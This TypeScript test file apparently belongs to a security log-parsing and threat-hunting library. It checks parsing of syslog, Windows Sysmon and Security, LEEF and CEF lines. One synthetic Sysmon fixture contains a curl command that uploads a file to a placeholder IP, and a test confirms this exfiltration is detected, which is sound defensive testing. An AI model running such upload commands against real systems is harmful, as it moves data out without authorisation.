import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { openSession, type Row, type Session } from '../../src/index.ts'
import { readHeader } from '../../src/readers/lines/header.ts'

let directory = ''
let session: Session | undefined
beforeEach(async () => {
  directory = await mkdtemp(join(tmpdir(), 'log-lines-'))
})
afterEach(async () => {
  await session?.close()
  session = undefined
  await rm(directory, { recursive: true })
})

async function read(lines: readonly string[]): Promise<Session> {
  const path = join(directory, 'lines.log')
  await writeFile(path, lines.map((line) => `${line}\n`).join(''))
  session = await openSession({ sources: [path] })
  return session
}

async function rows(lines: readonly string[], text: string): Promise<readonly Row[]> {
  const result = await (await read(lines)).query(text, { language: 'aql' })
  return result.rows()
}

const NOW = Date.parse('2026-02-01T00:00:00Z')

describe('headers of log lines', () => {
  it.each([
    ['<13>Jan 18 11:07:53 gate hello', '2026-01-18T11:07:53.000Z', ['gate'], 'hello'],
    ['Dec  3 01:02:03 gate hello', '2025-12-03T01:02:03.000Z', ['gate'], 'hello'],
    [
      '<13>Oct 14 10:00:00 10.0.0.9 <12>Oct 13 09:00:00 pc hello',
      '2025-10-13T09:00:00.000Z',
      ['10.0.0.9', 'pc'],
      'hello',
    ],
    ['<134>1 2026-01-18T11:08:00.25Z h app 1 - [a b="]\\""][c] hello', '2026-01-18T11:08:00.250Z', ['h'], 'hello'],
    ['2026-01-18T13:08:00+02:00 h app: hello', '2026-01-18T11:08:00.000Z', ['h'], 'app: hello'],
    ['2026-01-18 11:08:00,250 INFO hello', '2026-01-18T11:08:00.250Z', [], 'INFO hello'],
    ['<13>hello there', undefined, [], 'hello there'],
    ['Jan 18 2024 11:07:53 LEEF:1.0|a', '2024-01-18T11:07:53.000Z', [], 'LEEF:1.0|a'],
    ['hello', undefined, [], 'hello'],
    ['<134>1 2026-01-18T11:08:00Z h app 1 - [a b="', '2026-01-18T11:08:00.000Z', ['h'], '[a b="'],
  ])('%j', (line, time, hosts, message) => {
    const header = readHeader(line, NOW)
    expect(header.time === undefined ? undefined : new Date(header.time).toISOString()).toBe(time)
    expect([header.hosts, header.message]).toEqual([hosts, message])
  })
})

const sysmon = (id: number, message: string): string =>
  [
    '<13>Mar 02 10:00:05 10.9.8.7 AgentDevice=WindowsLog\tAgentLogFile=Microsoft-Windows-Sysmon/Operational',
    'PluginVersion=7.3.1\tSource=Microsoft-Windows-Sysmon\tComputer=pc7\tOriginatingComputer=pc7\tUser=SYSTEM',
    `Domain=NT AUTHORITY\tEventID=${id}\tEventIDCode=${id}\tEventType=4\tEventCategory=${id}\tRecordNumber=77`,
    `TimeGenerated=1772445605\tLevel=Informational\tOpcode=Info\tMessage=${message}`,
  ].join('\t')

const START =
  'Process Create: RuleName: - UtcTime: 2026-03-02 10:00:05.250 ProcessGuid: {00000000-0000-0000-0000-000000000001} ProcessId: 4711 Image: C:\\tools\\curl.exe CommandLine: curl.exe -T "a: Product: b.zip" https://203.0.113.5/up CurrentDirectory: C:\\ User: CORP\\ann LogonGuid: {00000000-0000-0000-0000-000000000002} LogonId: 0x46d94 TerminalSessionId: 1 IntegrityLevel: High Hashes: MD5=00112233445566778899AABBCCDDEEFF ParentProcessGuid: {00000000-0000-0000-0000-000000000003} ParentProcessId: 12 ParentImage: C:\\Windows\\explorer.exe ParentCommandLine: explorer.exe'
const CONNECTION =
  'Network connection detected: RuleName: - UtcTime: 2026-03-02 10:00:06.000 ProcessGuid: {00000000-0000-0000-0000-000000000001} ProcessId: 4711 Image: C:\\tools\\curl.exe User: CORP\\ann Protocol: tcp Initiated: true SourceIsIpv6: false SourceIp: 10.9.8.7 SourceHostname: - SourcePort: 50000 SourcePortName: - DestinationIsIpv6: false DestinationIp: 8.8.4.4 DestinationHostname: - DestinationPort: 443 DestinationPortName: https'

describe('Windows events in log lines', () => {
  it('WinCollect: the message is split, whatever the values hold', async () => {
    const text =
      'SELECT devicetime, "Process CommandLine", "Process Name", username, sourceip, destinationport, "MD5 Hash", "Parent Command", UTF8(payload) AS line FROM events'
    expect(await rows([sysmon(1, START)], text)).toEqual([
      {
        devicetime: 1772445605250,
        'Process CommandLine': 'curl.exe -T "a: Product: b.zip" https://203.0.113.5/up',
        'Process Name': 'curl.exe',
        username: 'CORP\\ann',
        sourceip: '10.9.8.7',
        destinationport: 0,
        'MD5 Hash': '00112233445566778899aabbccddeeff',
        'Parent Command': 'explorer.exe',
        line: sysmon(1, START),
      },
    ])
  })

  it('an exfiltration is found by every language', async () => {
    const hunt = (await read([sysmon(1, START), sysmon(3, CONNECTION)])).hunt()
    const platforms = new Set<string>()
    for await (const finding of hunt)
      if (finding.finding_info.analytic.uid === 't1048.002') platforms.add(finding.platform)
    expect([...platforms].sort()).toEqual(['defender', 'falcon', 'qradar', 'sentinel', 'sigma', 'sumo'])
  })

  it('Security 4688 of Snare', async () => {
    const message =
      'A new process has been created.    Creator Subject:   Security ID:  S-1-5-18   Account Name:  PC7$   Account Domain:  CORP   Logon ID:  0x3E7    Target Subject:   Security ID:  S-1-0-0   Account Name:  -   Account Domain:  -   Logon ID:  0x0    Process Information:   New Process ID:  0x1f4   New Process Name:  C:\\tools\\scp.exe   Token Elevation Type: TokenElevationTypeFull (2)   Mandatory Label:  S-1-16-12288   Creator Process ID: 0x64   Creator Process Name: C:\\Windows\\System32\\cmd.exe   Process Command Line: scp a b:    Token Elevation Type indicates the type of token'
    const line = `<14>Mar  2 10:00:05 pc7 MSWinEventLog\t1\tSecurity\t99\tMon Mar 02 10:00:05 2026\t4688\tMicrosoft-Windows-Security-Auditing\tCORP\\ann\tN/A\tSuccess Audit\tpc7\tProcess Creation\t\t${message}\t5`
    const text = 'SELECT "Process Path", "Command", "Process ID", "Parent Process Name", devicetime FROM events'
    expect(await rows([line], text)).toEqual([
      {
        'Process Path': 'C:\\tools\\scp.exe',
        Command: 'scp a b:',
        'Process ID': '500',
        'Parent Process Name': 'cmd.exe',
        devicetime: 1772445605000,
      },
    ])
  })

  const security = (id: number, message: string): string =>
    `<13>Mar 02 10:00:05 10.9.8.7 AgentDevice=WindowsLog\tAgentLogFile=Security\tSource=Microsoft-Windows-Security-Auditing\tComputer=pc7\tUser=\tDomain=\tEventID=${id}\tEventIDCode=${id}\tEventType=8\tRecordNumber=7\tTimeGenerated=1772445605\tLevel=Log Always\tMessage=${message}`
  const SUBJECT = 'Subject:  Security ID:  S-1-5-18  Account Name:  PC7$  Account Domain:  CORP  Logon ID:  0x3E7'
  const LOGON_TAIL =
    'Network Information:  Workstation Name: KIOSK  Source Network Address: 203.0.113.7  Source Port:  50123  Detailed Authentication Information:  Logon Process:  NtLmSsp  Authentication Package: NTLM  Transited Services: -  Package Name (NTLM only): NTLM V2  Key Length:  128  This event is generated when a logon session is created. It says Account Name: nothing.'

  it.each([
    [
      4624,
      `An account was successfully logged on.  ${SUBJECT}  Logon Information:  Logon Type:  3  Restricted Admin Mode: -  Virtual Account:  No  Elevated Token:  Yes  Impersonation Level:  Impersonation  New Logon:  Security ID:  S-1-5-21-1  Account Name:  ann  Account Domain:  CORP  Logon ID:  0x99  Linked Logon ID:  0x0  Network Account Name: -  Network Account Domain: -  Logon GUID:  {00000000-0000-0000-0000-000000000000}  Process Information:  Process ID:  0x0  Process Name:  -  ${LOGON_TAIL}`,
      { username: 'ann', sourceip: '203.0.113.7', 'Logon Type': '3', 'Source Workstation': 'KIOSK' },
    ],
    [
      4625,
      `An account failed to log on.  ${SUBJECT}  Logon Type:  10  Account For Which Logon Failed:  Security ID:  S-1-0-0  Account Name:  bob  Account Domain:  CORP  Failure Information:  Failure Reason:  Unknown user name or bad password.  Status:  0xC000006D  Sub Status:  0xC0000064  Process Information:  Caller Process ID: 0x1f4  Caller Process Name: C:\\Windows\\System32\\svchost.exe  ${LOGON_TAIL}`,
      { username: 'bob', sourceip: '203.0.113.7', 'Logon Type': '10', 'Process Name': 'svchost.exe' },
    ],
    [
      4698,
      `A scheduled task was created.  ${SUBJECT}  Task Information:  Task Name:   \\Updater  Task Content:   <?xml version="1.0"?><Task><Actions><Exec><Command>C:\\tools\\curl.exe</Command></Exec></Actions></Task>`,
      { 'Task Name': '\\Updater' },
    ],
    [
      4720,
      `A user account was created.  ${SUBJECT}  New Account:  Security ID:  S-1-5-21-1-1105  Account Name:  eve  Account Domain:  CORP  Attributes:  SAM Account Name: eve  Display Name:  <value not set>  User Principal Name: -  Home Directory:  -`,
      { username: 'eve' },
    ],
    [
      4697,
      `A service was installed in the system.  ${SUBJECT}  Service Information:  Service Name:   agent  Service File Name: C:\\tools\\a.exe --x: y  Service Type:   0x10  Service Start Type: 2  Service Account:   LocalSystem`,
      { 'Service Name': 'agent', 'Service Filename': 'C:\\tools\\a.exe --x: y' },
    ],
    [
      5156,
      'The Windows Filtering Platform has permitted a connection.  Application Information:  Process ID:  4711  Application Name: \\device\\harddiskvolume3\\tools\\curl.exe  Network Information:  Direction:  Outbound  Source Address:  10.9.8.7  Source Port:  50000  Destination Address: 203.0.113.9  Destination Port:  443  Protocol:  6  Filter Information:  Filter Run-Time ID: 1  Layer Name:  Connect  Layer Run-Time ID: 48',
      {
        sourceip: '10.9.8.7',
        destinationip: '203.0.113.9',
        destinationport: 443,
        protocolid: 6,
        'Process Name': 'curl.exe',
      },
    ],
    [
      4663,
      `An attempt was made to access an object.  ${SUBJECT}  Object:  Object Server:  Security  Object Type:  File  Object Name:  C:\\data\\a b.txt  Handle ID:  0x2a4  Resource Attributes: S:AI  Process Information:  Process ID:  0x1f4  Process Name:  C:\\tools\\x.exe  Access Request Information:  Accesses:  ReadData  Access Mask:  0x1`,
      { 'File Path': 'C:\\data\\a b.txt', 'Process Name': 'x.exe', 'Access Mask': '0x1' },
    ],
    [
      4689,
      `A process has exited.  ${SUBJECT}  Process Information:  Process ID: 0x1f4  Process Name: C:\\tools\\x.exe  Exit Status: 0x0`,
      { 'Process Path': 'C:\\tools\\x.exe' },
    ],
  ])('Security %i of WinCollect', async (id, message, wanted) => {
    const names = Object.keys(wanted).map((name) => `"${name}"`)
    const found = await rows([security(id, message)], `SELECT "Event ID", ${names.join(', ')} FROM events`)
    expect(found).toEqual([{ 'Event ID': String(id), ...wanted }])
  })

  it.each([
    [
      'Winlogbeat',
      JSON.stringify({
        '@timestamp': '2026-03-02T10:00:05.250Z',
        event: { code: '1', provider: 'Microsoft-Windows-Sysmon' },
        winlog: {
          channel: 'Microsoft-Windows-Sysmon/Operational',
          provider_name: 'Microsoft-Windows-Sysmon',
          event_id: 1,
          computer_name: 'pc9',
          event_data: { Image: 'C:\\x.exe', CommandLine: 'x -a' },
        },
      }),
    ],
    [
      'XML',
      '<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System><Provider Name="Microsoft-Windows-Sysmon"/><EventID>1</EventID><TimeCreated SystemTime="2026-03-02T10:00:05.25Z"/><Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>pc9</Computer></System><EventData><Data Name="Image">C:\\x.exe</Data><Data Name="CommandLine">x -a</Data></EventData></Event>',
    ],
  ])('%s after the headers of syslog', async (_, event) => {
    const heads = [
      '<13>Mar  2 10:00:06 relay ',
      '<14>1 2026-03-02T10:00:06Z relay winlog 7 - - ',
      '<13>Mar  2 10:00:06 relay winlogbeat[7]: ',
    ]
    const text = 'SELECT devicetime, "Command", "Process Name", "Machine ID", UTF8(payload) AS line FROM events'
    const lines = heads.map((head) => `${head}${event}`)
    const found = await rows(lines, text)
    expect(found.map((row) => row['line']).toSorted()).toEqual(lines.toSorted())
    for (const { line: _line, ...row } of found)
      expect(row).toEqual({ devicetime: 1772445605250, Command: 'x -a', 'Process Name': 'x.exe', 'Machine ID': 'pc9' })
  })

  it('JSON after a header', async () => {
    const event = {
      SourceName: 'Microsoft-Windows-Sysmon',
      Channel: 'Microsoft-Windows-Sysmon/Operational',
      EventID: 1,
      Hostname: 'pc8',
      EventTime: '2026-03-02 10:00:05',
      Image: 'C:\\x.exe',
      CommandLine: 'x',
    }
    const found = await rows(
      [`<13>Mar  2 10:00:05 pc8 nxlog: ${JSON.stringify(event)}`],
      'SELECT "Command" FROM events',
    )
    expect(found).toEqual([{ Command: 'x' }])
  })
})

describe('lines of other products', () => {
  const LEEF = [
    '<13>Jan 18 2026 11:07:53 fw1 LEEF:2.0|Acme|Gate|3|deny|x5E|src=10.1.1.5^dst=203.0.113.9^dstPort=443^proto=TCP^usrName=ann^devTime=Jan 18 2026 11:07:52^srcBytes=812^note=a=b',
    'LEEF:1.0|Acme|Mail|2|sent|src=10.1.1.7\tsubject=hello world\tdstPort=many',
    '<134>1 2026-01-18T11:08:00.250Z fw2 app 12 - - CEF:0|Acme|Wall\\|X|1|100|name|7|src=10.1.1.6 dpt=22 suser=bob msg=some text \\= here cs1=red cs1Label=Zone',
    'Jan 18 2026 11:09:00 h1 sshd[12]: Accepted password',
    'no such line',
  ]

  it('have built-in columns and properties under their own names', async () => {
    const text =
      'SELECT qideventid, devicetime, sourceip, destinationport, protocolid, username, note, subject, dstPort, msg, Zone, logsourceidentifier FROM events ORDER BY devicetime'
    const found = await rows(LEEF, text)
    expect(found.find((row) => row['qideventid'] === 'deny')).toMatchObject({
      devicetime: 1768734472000,
      sourceip: '10.1.1.5',
      destinationport: 443,
      protocolid: 6,
      username: 'ann',
      note: 'a=b',
      logsourceidentifier: 'fw1',
    })
    expect(found.find((row) => row['qideventid'] === 'sent')).toMatchObject({
      subject: 'hello world',
      destinationport: null,
      dstPort: 'many',
    })
    expect(found.find((row) => row['qideventid'] === '100')).toMatchObject({
      destinationport: 22,
      username: 'bob',
      msg: 'some text = here',
      Zone: 'red',
    })
    expect(session?.ingested.counts).toMatchObject({ read: 5, rejected: 0 })
  })

  it('hostile lines are set aside or kept, and nothing hangs', async () => {
    const long = 'a='.repeat(60_000)
    const lines = [
      ...LEEF,
      `<13>Jan 18 2026 11:07:53 h CEF:0|a|b|c|d|e|f|${long}`,
      `LEEF:2.0|a|b|c|d|^|${'k=v^'.repeat(20_000)}`,
      `<13>Jan 18 2026 11:07:53 h AgentDevice=\tAgentLogFile=x\tEventID=abc\tMessage=${'Image: '.repeat(20_000)}`,
      sysmon(1, 'CommandLine: '.repeat(20_000)),
      `<1>`.repeat(1000),
      '[['.repeat(10_000),
    ]
    expect((await rows(lines, 'SELECT COUNT(*) AS n FROM events'))[0]?.['n']).toBeGreaterThan(5)
  })
})
